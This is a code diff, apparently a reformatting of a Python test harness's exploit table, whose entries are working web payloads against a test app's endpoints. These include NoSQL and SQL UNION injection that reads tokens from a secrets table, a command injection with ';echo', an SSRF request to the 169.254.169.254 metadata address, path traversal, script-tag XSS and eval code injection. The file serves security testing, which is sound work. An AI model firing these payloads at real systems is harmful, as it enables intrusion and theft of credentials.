@@ -102,25 +102,69 @@ EXPLOITS: tuple[Exploit, ...] = (
         content_type="application/yaml",
         contains=(MARKER,),
     ),
-    Exploit("L2-bracket", "/api/products", "nosql_injection", pairs=(("category[$ne]", "x"),),
-            effects=frozenset({"canary_leak"})),
-    Exploit("L2-json", "/api/products", "nosql_injection", pairs=(("category", '{"$ne": "x"}'),),
-            effects=frozenset({"canary_leak"})),
-    Exploit("L3-union", "/api/orders", "sql_injection",
-            pairs=(("id", "0 UNION SELECT id, name, token FROM secrets"),), effects=frozenset({"canary_leak"})),
-    Exploit("L4-union", "/api/orders/search", "sql_injection",
-            pairs=(("item", "zzz' UNION SELECT id, name, token FROM secrets --"),),
-            effects=frozenset({"canary_leak"})),
-    Exploit("L5-echo", "/api/checksum", "command_injection", pairs=(("file", "x;echo rmp$((1000+337))x"),),
-            contains=(MARKER,)),
-    Exploit("L6-metadata", "/api/preview", "ssrf", pairs=(("url", "http://169.254.169.254" + _META),),
-            effects=frozenset({"internal_contact"})),
-    Exploit("L7-traversal", "/api/files", "path_traversal", pairs=(("name", "../secret.txt"),),
-            effects=frozenset({"canary_leak"})),
-    Exploit("L8-script", "/greet", "xss", pairs=(("name", "<script>alert(1)</script>"),),
-            contains=("<h1>Hello, <script>alert(1)</script>!</h1>",)),
-    Exploit("L12-eval", "/api/calc", "code_injection", pairs=(("expr", "'rmp'+str(1000+337)+'x'"),),
-            contains=(MARKER,)),
+    Exploit(
+        "L2-bracket",
+        "/api/products",
+        "nosql_injection",
+        pairs=(("category[$ne]", "x"),),
+        effects=frozenset({"canary_leak"}),
+    ),
+    Exploit(
+        "L2-json",
+        "/api/products",
+        "nosql_injection",
+        pairs=(("category", '{"$ne": "x"}'),),
+        effects=frozenset({"canary_leak"}),
+    ),
+    Exploit(
+        "L3-union",
+        "/api/orders",
+        "sql_injection",
+        pairs=(("id", "0 UNION SELECT id, name, token FROM secrets"),),
+        effects=frozenset({"canary_leak"}),
+    ),
+    Exploit(
+        "L4-union",
+        "/api/orders/search",
+        "sql_injection",
+        pairs=(("item", "zzz' UNION SELECT id, name, token FROM secrets --"),),
+        effects=frozenset({"canary_leak"}),
+    ),
+    Exploit(
+        "L5-echo",
+        "/api/checksum",
+        "command_injection",
+        pairs=(("file", "x;echo rmp$((1000+337))x"),),
+        contains=(MARKER,),
+    ),
+    Exploit(
+        "L6-metadata",
+        "/api/preview",
+        "ssrf",
+        pairs=(("url", "http://169.254.169.254" + _META),),
+        effects=frozenset({"internal_contact"}),
+    ),
+    Exploit(
+        "L7-traversal",
+        "/api/files",
+        "path_traversal",
+        pairs=(("name", "../secret.txt"),),
+        effects=frozenset({"canary_leak"}),
+    ),
+    Exploit(
+        "L8-script",
+        "/greet",
+        "xss",
+        pairs=(("name", "<script>alert(1)</script>"),),
+        contains=("<h1>Hello, <script>alert(1)</script>!</h1>",),
+    ),
+    Exploit(
+        "L12-eval",
+        "/api/calc",
+        "code_injection",
+        pairs=(("expr", "'rmp'+str(1000+337)+'x'"),),
+        contains=(MARKER,),
+    ),
 )
 
 
@@ -195,7 +239,7 @@ def _gzip(exploit: Exploit) -> Wire:
 def _multipart_field(exploit: Exploit) -> Wire:
     """The JSON document as a multipart form field (the app parses the raw body anyway)."""
     body = (
-        "--zz\r\nContent-Disposition: form-data; name=\"data\"\r\n\r\n" + _body(exploit) + "\r\n--zz--\r\n"
+        '--zz\r\nContent-Disposition: form-data; name="data"\r\n\r\n' + _body(exploit) + "\r\n--zz--\r\n"
     ).encode()
     return _post(exploit, body, "multipart/form-data; boundary=zz")
 
